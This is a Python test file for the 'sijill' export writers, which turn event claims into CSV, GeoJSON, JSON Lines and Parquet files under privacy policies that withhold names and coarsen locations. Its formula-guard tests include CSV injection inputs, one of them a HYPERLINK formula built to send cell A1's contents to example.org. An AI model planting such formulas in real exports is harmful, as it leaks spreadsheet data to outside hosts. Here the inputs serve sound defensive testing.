from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import msgspec
import pytest

from sijill.errors import UsageError
from sijill.model import Claim, Document, Source, Words
from sijill.publication.cells import WITHHELD, guarded, unguarded
from sijill.publication.files import whole_file
from sijill.publication.policy import Policy, make_policy
from sijill.publication.rows import COLUMNS
from sijill.publication.writers import Csv, GeoJson, JsonLines, Parquet, writer_for

from .shelf import LATER, SOON

OLD = make_policy(as_of=LATER)
NAMES = make_policy(
    {
        "private_names": "shown",
        "witnesses": "shown",
        "reasons": {"private_names": "court order", "witnesses": "court order"},
        "responsible": "the editor",
    },
    as_of=LATER,
)


def table(document: Document, claims: list[Claim], policy: Policy, *, excel: bool = False) -> bytes:
    stream = io.BytesIO()
    writer = Csv(stream, policy, excel=excel)
    writer.write(document, claims)
    writer.close()
    return stream.getvalue()


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_json_lines_round_trip(document: Document, claim: Claim) -> None:
    stream = io.BytesIO()
    JsonLines(stream).write(document, [claim, claim])
    lines = stream.getvalue().splitlines()
    assert [msgspec.json.decode(line, type=Claim) for line in lines] == [claim, claim]
    record = json.loads(lines[0])
    assert list(record) == [field.name for field in msgspec.structs.fields(Claim)]
    assert record["time"]["earliest"] == "2025-08-11"


def test_csv_has_one_row_a_claim(document: Document, claim: Claim) -> None:
    (row,) = rows(table(document, [claim], OLD))
    assert list(row) == list(COLUMNS)
    assert row["counts"] == "arrested 1 (civilians)"
    assert row["recipients"] == WITHHELD
    assert row["sources"] == WITHHELD
    assert row["latitudes"] == "34.7806"
    assert row["text_sha256"] == document.sha256
    assert "سالم" not in table(document, [claim], OLD).decode()


def test_csv_names_with_a_reason(document: Document, claim: Claim) -> None:
    (row,) = rows(table(document, [claim], NAMES))
    assert row["recipients"] == "المعلم سالم"
    assert row["sources"] == "سكان"


def test_csv_and_map_leave_out_and_coarsen(document: Document, claim: Claim) -> None:
    expected = msgspec.structs.replace(claim, modality="expected")
    recent = make_policy(as_of=SOON)
    (row,) = rows(table(document, [claim, expected], recent))
    assert (row["place_names"], row["time"]) == ("Abu Kamal", "2025-08-11/2025-08-17")
    stream = io.BytesIO()
    writer = GeoJson(stream, recent)
    writer.write(document, [claim, expected])
    writer.close()
    collection = json.loads(stream.getvalue())
    (feature,) = collection["features"]
    assert feature["geometry"]["coordinates"] == [40.92, 34.45]
    assert feature["properties"]["coarsened"] is True
    assert collection["sijill_policy"]["claims_left_out"] == {"expected": 1}
    assert set(collection["sijill_policy"]["why"]) >= {"expected", "recent_place", "private_names"}
    assert "1 left out (expected)" in writer.notes[0]
    for secret in ("Gharanij", "غرانيج", "C5173", "34.78", "سالم", '2025-08-11"'):
        assert secret not in stream.getvalue().decode()


def test_excel_gets_a_byte_order_mark(document: Document, claim: Claim) -> None:
    assert table(document, [claim], OLD, excel=True).startswith(b"\xef\xbb\xbfclaim_id")
    assert table(document, [claim], OLD).startswith(b"claim_id")


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", " =1", "\u200f=1", "＝1", "\r=1", "\n1"]
)
def test_formulas_are_guarded(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(str(guarded(cell))) == cell


def test_an_apostrophe_of_its_own_is_not_lost() -> None:
    assert unguarded(str(guarded("'=1"))) == "'=1"


@pytest.mark.parametrize("cell", ["-12.5", "2025-08-11", "قسد", "a=b", "", 5, -5, 0.5, None])
def test_what_is_no_formula_stays(cell: str | int | float | None) -> None:
    assert guarded(cell) == cell


def test_a_hostile_document_cannot_inject(document: Document, claim: Claim) -> None:
    hostile = '=HYPERLINK("http://example.org?"&A1)'
    bad = msgspec.structs.replace(
        claim,
        document_id=hostile,
        trigger=Words(hostile, 0, 1),
        sources=(Source(hostile, 0, 1, None, "media", False),),
    )
    evil = msgspec.structs.replace(document, id=hostile, source=hostile, url=hostile)
    (row,) = rows(table(evil, [bad], NAMES))
    assert not [name for name, cell in row.items() if cell[:1] in "=+-@" and cell]


def test_parquet_is_the_nested_record(tmp_path: Path, document: Document, claim: Claim) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "c.parquet"
    undated = msgspec.structs.replace(claim, time=None, acled=None, plover=None, places=(), counts=())
    with path.open("wb") as stream:
        writer = Parquet(stream)
        writer.write(document, [claim, undated])
        writer.close()
    back = parquet.read_table(path).to_pylist()
    assert [msgspec.convert(row, Claim) for row in back] == [claim, undated]


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(UsageError, match="no format"):
        writer_for(Path("claims.docx"), Policy(), excel=False)


def test_a_file_is_there_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("before", encoding="utf-8")

    def interrupted() -> None:
        with whole_file(path) as part:
            part.write_text("half", encoding="utf-8")
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert path.read_text(encoding="utf-8") == "before"
    with whole_file(path) as part:
        part.write_text("after", encoding="utf-8")
    assert path.read_text(encoding="utf-8") == "after"
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


def test_a_missing_folder_is_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="cannot write"), whole_file(tmp_path / "none" / "out.csv"):
        pass
    with pytest.raises(UsageError, match="is a folder"), whole_file(tmp_path):
        pass
